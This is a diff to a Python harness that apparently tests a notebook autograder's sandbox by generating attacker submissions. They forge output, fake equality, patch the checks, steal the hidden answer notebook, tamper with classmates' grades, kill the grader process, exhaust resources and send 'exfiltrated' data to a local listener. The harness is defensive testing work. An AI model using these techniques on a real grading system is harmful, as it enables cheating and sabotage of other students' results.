@@ -23,9 +23,11 @@ import os
 import secrets
 import shutil
 import signal
+import socket
 import subprocess
 import sys
 import tempfile
+import threading
 import time
 from collections.abc import Callable
 from dataclasses import dataclass, field
@@ -79,6 +81,39 @@ class Attack:
     group: str = ""  # attacks of one group can share a notebook (scratch cells after set-up)
 
 
+class Listener:
+    """A TCP service of the instructor's on 127.0.0.1: no submission may reach it.
+
+    `heard` keeps what each connection sent (its first 200 bytes), or b"connected"."""
+
+    def __init__(self) -> None:
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.server.settimeout(0.3)
+        self.port = self.server.getsockname()[1]
+        self.heard: list[bytes] = []
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self._run, daemon=True)
+        self.thread.start()
+
+    def _run(self) -> None:
+        while not self.stop.is_set():
+            try:
+                conn, _ = self.server.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                try:
+                    self.heard.append(conn.recv(200) or b"connected")
+                except OSError:
+                    self.heard.append(b"connected")
+
+    def close(self) -> None:
+        self.stop.set()
+        self.thread.join()
+        self.server.close()
+
+
 # --- notebooks ---------------------------------------------------------------------------
 
 
@@ -118,6 +153,13 @@ def scratch(nb, text: str, after: str = "setup"):
     return nb
 
 
+def answered(nb, **answers: str):
+    """`nb` with the source of each cell named by its grade id replaced: what a learner typed."""
+    for gid, text in answers.items():
+        cell(nb, gid).source = text
+    return nb
+
+
 def first(nb, text: str):
     nb.cells.insert(0, nbformat.v4.new_code_cell(text))
     return nb
@@ -125,6 +167,11 @@ def first(nb, text: str):
 
 def blank_with(text: str, name: str = CHAT, after: str = "setup"):
     return scratch(release(name), text, after)
+
+
+def attacker(student: str, code: str, name: str = CHAT) -> Submission:
+    """A blank copy of assignment `name` with the attack `code` in a cell after set-up."""
+    return Submission(student, name, blank_with(attempt(code), name))
 
 
 # Code every attacker cell starts with: start a process past the audit hook.
@@ -193,7 +240,7 @@ def _forge(lines):
     return [f"print({{found[-1]!r}})\\n"] if found else lines
 get_ipython().input_transformers_post.append(_forge)
 """
-    return [Submission("a1-transformer", CHAT, blank_with(attempt(code)))]
+    return [attacker("a1-transformer", code)]
 
 
 def forge_custom_exc(ctx: Context) -> list[Submission]:
@@ -204,7 +251,7 @@ def _handler(shell, etype, value, tb, tb_offset=None):
         print(found)
 get_ipython().set_custom_exc((BaseException,), _handler)
 """
-    return [Submission("a2-custom-exc", CHAT, blank_with(attempt(code)))]
+    return [attacker("a2-custom-exc", code)]
 
 
 def forge_showtraceback(ctx: Context) -> list[Submission]:
@@ -215,7 +262,7 @@ def _quiet(etype, evalue, stb):
         print(found)
 get_ipython()._showtraceback = _quiet
 """
-    return [Submission("a3-showtraceback", CHAT, blank_with(attempt(code)))]
+    return [attacker("a3-showtraceback", code)]
 
 
 # --- B: values that defeat comparisons ------------------------------------------------------
@@ -257,49 +304,43 @@ class LiarInt(int):
 
 
 def always_equal(ctx: Context) -> list[Submission]:
-    nb = blank_with(LIARS)
-    cell(nb, "q1_answer").source = (
-        "def channel_for(room):\n    return LiarStr('x')\n\n"
+    nb = answered(
+        blank_with(LIARS),
+        q1_answer="def channel_for(room):\n    return LiarStr('x')\n\n"
         "def encode(sender, text):\n    return LiarStr('x')\n\n"
-        "def decode(data):\n    return Liar()\n"
-    )
-    cell(nb, "q2_answer").source = (
-        "class ChatClient:\n"
+        "def decode(data):\n    return Liar()\n",
+        q2_answer="class ChatClient:\n"
         "    def __init__(self, name): self.name = name\n"
         "    def join(self, room): pass\n"
         "    def say(self, room, text): return LiarInt(2)\n"
         "    def history(self): return Liar()\n"
-        "    def close(self): pass\n"
-    )
-    cell(nb, "q4_answer").source = (
-        "alice_heard, bob_heard = Liar(), Liar()\n"
-        "first_receivers, later_receivers = LiarInt(1), LiarInt(2)\n"
+        "    def close(self): pass\n",
+        q4_answer="alice_heard, bob_heard = Liar(), Liar()\n"
+        "first_receivers, later_receivers = LiarInt(1), LiarInt(2)\n",
     )
     return [Submission("b1-always-equal", CHAT, nb)]
 
 
 def lying_subclasses(ctx: Context) -> list[Submission]:
-    nb = blank_with(LIARS)
-    cell(nb, "q1_answer").source = (
-        "def channel_for(room):\n    return LiarStr('')\n\n"
+    nb = answered(
+        blank_with(LIARS),
+        q1_answer="def channel_for(room):\n    return LiarStr('')\n\n"
         "def encode(sender, text):\n    return LiarStr('')\n\n"
-        "def decode(data):\n    return (LiarStr(''), LiarStr(''))\n"
-    )
-    cell(nb, "q4_answer").source = (
-        "alice_heard = [(LiarStr(''),) * 3, (LiarStr(''),) * 3]\n"
+        "def decode(data):\n    return (LiarStr(''), LiarStr(''))\n",
+        q4_answer="alice_heard = [(LiarStr(''),) * 3, (LiarStr(''),) * 3]\n"
         "bob_heard = [(LiarStr(''),) * 3]\n"
-        "first_receivers, later_receivers = LiarInt(1), LiarInt(2)\n"
+        "first_receivers, later_receivers = LiarInt(1), LiarInt(2)\n",
     )
     return [Submission("b2-lying-subclasses", CHAT, nb)]
 
 
 def kv_liar(ctx: Context) -> list[Submission]:
     """a2 methods that answer with values equal to anything."""
-    nb = scratch(release(KV), LIARS)
-    cell(nb, "methods").source = (
-        "def _any(*args):\n    return Success(LiarStr('x'))\n\n"
+    nb = answered(
+        blank_with(LIARS, KV),
+        methods="def _any(*args):\n    return Success(LiarStr('x'))\n\n"
         "kv_set = kv_get = kv_delete = kv_incr = _any\n"
-        'methods = {"set": kv_set, "get": kv_get, "delete": kv_delete, "incr": kv_incr}\n'
+        'methods = {"set": kv_set, "get": kv_get, "delete": kv_delete, "incr": kv_incr}\n',
     )
     return [Submission("b3-kv-liar", KV, nb)]
 
@@ -314,7 +355,7 @@ for _questions in checks.ASSIGNMENTS.values():
     for _qid, _q in list(_questions.items()):
         _questions[_qid] = checks.QuestionCheck(_q.assignment, _q.id, lambda answers: None)
 """
-    return [Submission("c1-empty-registry", KV, scratch(release(KV), attempt(code)))]
+    return [attacker("c1-empty-registry", code, KV)]
 
 
 FAKE_SEND = """
@@ -365,11 +406,11 @@ rpc.Client.send = _fake_send
 
 
 def patch_send(ctx: Context) -> list[Submission]:
-    nb = scratch(release(KV), attempt(FAKE_SEND))
-    cell(nb, "q4_answer").source = (
-        "batch = [request('set', params=('v', '1')), request('get', params=('v',)),\n"
+    nb = answered(
+        blank_with(attempt(FAKE_SEND), KV),
+        q4_answer="batch = [request('set', params=('v', '1')), request('get', params=('v',)),\n"
         "         request('get', params=('nope',))]\n"
-        "batch_replies = client.send(batch)\n"
+        "batch_replies = client.send(batch)\n",
     )
     return [Submission("c2-patch-send", KV, nb)]
 
@@ -379,11 +420,11 @@ def patch_a3(ctx: Context) -> list[Submission]:
 from helpers import checks
 checks.expect = lambda *args, **kwargs: None
 """
-    nb = scratch(release(LOSS), attempt(code))
-    cell(
-        nb, "q4_answer"
-    ).source = "lost_count = zero_returns = counted_but_lost = 0\nloss_fraction = 0.0\n"
-    cell(nb, "q5_answer").source = "why = 'b'\nlost_if_away_twice = 0\n"
+    nb = answered(
+        blank_with(attempt(code), LOSS),
+        q4_answer="lost_count = zero_returns = counted_but_lost = 0\nloss_fraction = 0.0\n",
+        q5_answer="why = 'b'\nlost_if_away_twice = 0\n",
+    )
     # A blank a3 earns question 1 with the parameters the student copy gives (1 point).
     return [Submission("c3-patch-a3", LOSS, nb, honest=1)]
 
@@ -398,7 +439,7 @@ _fd = os.open("source/{CHAT}.ipynb", os.O_RDONLY, dir_fd=_dir)
 _text = os.read(_fd, 10_000_000).decode()
 {run_stolen("_text")}
 """
-    return [Submission("d1-dir-fd", CHAT, blank_with(attempt(code)))]
+    return [attacker("d1-dir-fd", code)]
 
 
 def steal_link(ctx: Context) -> list[Submission]:
@@ -409,7 +450,7 @@ _text = open(_link).read()
 os.unlink(_link)
 {run_stolen("_text")}
 """
-    return [Submission("d2-hard-link", CHAT, blank_with(attempt(code)))]
+    return [attacker("d2-hard-link", code)]
 
 
 def steal_ctypes(ctx: Context) -> list[Submission]:
@@ -422,7 +463,7 @@ if _fd < 0:
 _text = os.read(_fd, 10_000_000).decode()
 {run_stolen("_text")}
 """
-    return [Submission("d3-ctypes", CHAT, blank_with(attempt(code)))]
+    return [attacker("d3-ctypes", code)]
 
 
 def steal_fork_exec(ctx: Context) -> list[Submission]:
@@ -430,7 +471,7 @@ def steal_fork_exec(ctx: Context) -> list[Submission]:
 _pid, _out = _spawn(["/bin/cat", {str(ctx.source / f"{CHAT}.ipynb")!r}], capture=True)
 {run_stolen("_out.decode()")}
 """
-    return [Submission("d4-fork-exec", CHAT, blank_with(attempt(code)))]
+    return [attacker("d4-fork-exec", code)]
 
 
 LEAK = """
@@ -468,7 +509,7 @@ _fd = os.open({victim!r}, os.O_RDONLY, dir_fd=_dir)
 {run_stolen("os.read(_fd, 10_000_000).decode()")}
 """
     return [
-        Submission("d6-copy-classmate", CHAT, blank_with(attempt(code))),
+        attacker("d6-copy-classmate", code),
         Submission("zz-d6-classmate", CHAT, solved(CHAT), honest=8, kept=True),
     ]
 
@@ -551,7 +592,7 @@ def late_rewrite(ctx: Context) -> list[Submission]:
         f"# {ctx.mark}\n"
     )
     code = f"_spawn([sys.executable, '-c', {later!r}])"
-    return [Submission("f1-late", CHAT, blank_with(attempt(code)))]
+    return [attacker("f1-late", code)]
 
 
 def startup_file(ctx: Context) -> list[Submission]:
@@ -563,7 +604,7 @@ with open(os.path.join(_dir, "00-helper.py"), "w") as _f:
     _f.write({victim_hook(token)!r})
 """
     return [
-        Submission("f2-startup", CHAT, blank_with(attempt(code))),
+        attacker("f2-startup", code),
         victim("zz-f2-victim", token),
     ]
 
@@ -580,7 +621,7 @@ with open({str(ctx.pack / "helpers" / "checks" / "__init__.py")!r}, "a") as _f:
     _f.write({addition!r})
 """
     return [
-        Submission("f3-edit-pack", CHAT, blank_with(attempt(code))),
+        attacker("f3-edit-pack", code),
         victim("zz-f3-victim", token),
     ]
 
@@ -594,7 +635,7 @@ with open("replacement.ipynb", "w") as _f:
 os.rename("replacement.ipynb", {str(target)!r})
 """
     return [
-        Submission("f4-rename", CHAT, blank_with(attempt(code))),
+        attacker("f4-rename", code),
         Submission("zz-f4-victim", CHAT, solved(CHAT), honest=8, kept=True),
     ]
 
@@ -604,17 +645,17 @@ os.rename("replacement.ipynb", {str(target)!r})
 
 def kill_parent(ctx: Context) -> list[Submission]:
     code = "import signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
-    return [Submission("g1-kill-parent", CHAT, blank_with(attempt(code)))]
+    return [attacker("g1-kill-parent", code)]
 
 
 def stop_parent(ctx: Context) -> list[Submission]:
     code = "import signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"
-    return [Submission("g2-stop-parent", CHAT, blank_with(attempt(code)))]
+    return [attacker("g2-stop-parent", code)]
 
 
 def redis_shutdown(ctx: Context) -> list[Submission]:
     code = "try:\n    r.shutdown(nosave=True)\nexcept Exception:\n    pass\nos._exit(1)\n"
-    return [Submission("g3-redis-shutdown", CHAT, blank_with(attempt(code)))]
+    return [attacker("g3-redis-shutdown", code)]
 
 
 def dangling_symlink(ctx: Context) -> list[Submission]:
@@ -629,7 +670,7 @@ for _dir in {tempfile.gettempdir()}:  # the kernel's TMPDIR: never a shared /tmp
         except FileExistsError:
             pass
 """
-    return [Submission("g4-dangling-symlink", CHAT, blank_with(attempt(code)))]
+    return [attacker("g4-dangling-symlink", code)]
 
 
 def bad_metadata(ctx: Context) -> list[Submission]:
@@ -661,12 +702,12 @@ for _ in range(100):
     _started += 1
 print("started", _started)
 """
-    return [Submission("g8-processes", CHAT, blank_with(attempt(code)))]
+    return [attacker("g8-processes", code)]
 
 
 def big_memory(ctx: Context) -> list[Submission]:
     code = "_hog = bytearray(3 * 2**30)\nprint('allocated', len(_hog))\n"
-    return [Submission("g9-memory", CHAT, blank_with(attempt(code)))]
+    return [attacker("g9-memory", code)]
 
 
 def big_file(ctx: Context) -> list[Submission]:
@@ -678,7 +719,7 @@ with open(_path, "wb") as _f:
 print("wrote", os.path.getsize(_path))
 os.unlink(_path)
 """
-    return [Submission("g10-disk", CHAT, blank_with(attempt(code)))]
+    return [attacker("g10-disk", code)]
 
 
 # --- H: output abuse ----------------------------------------------------------------------------
@@ -731,7 +772,7 @@ with socket.create_connection(("127.0.0.1", {ctx.listener_port}), timeout=2) as 
     _s.sendall(b"exfiltrated {ctx.mark}")
 print("reached the host")
 """
-    return [Submission("n1-reach-host", CHAT, blank_with(attempt(code)))]
+    return [attacker("n1-reach-host", code)]
 
 
 def read_proc(ctx: Context) -> list[Submission]:
@@ -755,7 +796,7 @@ for _cmd in glob.glob("/proc/[0-9]*/cmdline"):
         break
 """
     return [
-        Submission("n2-proc", CHAT, blank_with(attempt(code))),
+        attacker("n2-proc", code),
         Submission("zz-n2-classmate", CHAT, solved(CHAT), honest=8, kept=True),
     ]
 
@@ -774,7 +815,7 @@ def _forge(lines):
     return [f"print({prefix!r} + {canned!r})\\n"]
 get_ipython().input_transformers_post.append(_forge)
 """
-    return [Submission("n3-bridge-forgery", CHAT, blank_with(attempt(code)))]
+    return [attacker("n3-bridge-forgery", code)]
 
 
 def redis_takeover(ctx: Context) -> list[Submission]:
@@ -797,7 +838,7 @@ if _url.startswith("unix://"):
     threading.Thread(target=_answer, daemon=True).start()
 print("took over", _url)
 """
-    return [Submission("n4-redis-takeover", CHAT, blank_with(attempt(code)))]
+    return [attacker("n4-redis-takeover", code)]
 
 
 ATTACKS = [
@@ -948,11 +989,16 @@ def _partial(data: bytes) -> str:
 
 def leftovers(mark: str) -> list[int]:
     """Processes whose command line carries `mark`."""
+    return _holding(mark, "cmdline")
+
+
+def _holding(value: str, part: str) -> list[int]:
+    """Processes but this one whose /proc/PID/`part` (cmdline, environ) holds `value`."""
     pids = []
     for entry in Path("/proc").iterdir():
         if entry.name.isdigit() and int(entry.name) != os.getpid():
             try:
-                if mark.encode() in (entry / "cmdline").read_bytes():
+                if value.encode() in (entry / part).read_bytes():
                     pids.append(int(entry.name))
             except OSError:
                 continue
@@ -964,15 +1010,7 @@ def leftovers(mark: str) -> list[int]:
 
 def _ours(value: str) -> list[int]:
     """Processes whose environment holds `value`: what one measuring run started."""
-    pids = []
-    for entry in Path("/proc").iterdir():
-        if entry.name.isdigit() and int(entry.name) != os.getpid():
-            try:
-                if value.encode() in (entry / "environ").read_bytes():
-                    pids.append(int(entry.name))
-            except OSError:
-                continue
-    return pids
+    return _holding(value, "environ")
 
 
 def sandboxed_grader(pack: Path) -> bool:
@@ -982,38 +1020,14 @@ def sandboxed_grader(pack: Path) -> bool:
 
 def measure_one(attack: Attack, pack: Path, timeout: float, extra: list[str]) -> dict:
     """Grade one attack's submissions with the grader of `pack`; scores and what broke."""
-    import socket
-    import threading
-
     base = Path(tempfile.mkdtemp(prefix=f"attack-{attack.key}-"))
     private = base / "private"
     for sub in ("home", "tmp", "runtime"):
         (private / sub).mkdir(parents=True)
     work = base / "pack"
     shutil.copytree(pack, work, ignore=shutil.ignore_patterns(".venv", ".git", "test-output"))
-    ctx = Context(work, base / "submitted", base / "graded")
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    listener.listen()
-    listener.settimeout(0.5)
-    ctx.listener_port = listener.getsockname()[1]
-    heard: list[bytes] = []
-    stop = threading.Event()
-
-    def listen() -> None:
-        while not stop.is_set():
-            try:
-                conn, _ = listener.accept()
-            except OSError:
-                continue
-            with conn:
-                conn.settimeout(2)
-                try:
-                    heard.append(conn.recv(200))
-                except OSError:
-                    heard.append(b"connected")
-
-    threading.Thread(target=listen, daemon=True).start()
+    listener = Listener()
+    ctx = Context(work, base / "submitted", base / "graded", listener_port=listener.port)
     subs = attack.build(ctx)
     for sub in subs:
         write(sub, ctx.submissions)
@@ -1056,7 +1070,6 @@ def measure_one(attack: Attack, pack: Path, timeout: float, extra: list[str]) ->
     for pid in left:
         with contextlib.suppress(OSError):
             os.kill(pid, signal.SIGKILL)
-    stop.set()
     listener.close()
     scores = _totals(later)
     result = {
@@ -1068,7 +1081,7 @@ def measure_one(attack: Attack, pack: Path, timeout: float, extra: list[str]) ->
         "gradebook": first_read is not None,
         "rewritten": first_read != later,
         "leftover_processes": len(left),
-        "host_reached": bool(heard),
+        "host_reached": bool(listener.heard),
         "students": {
             sub.student: {
                 "honest": sub.honest,
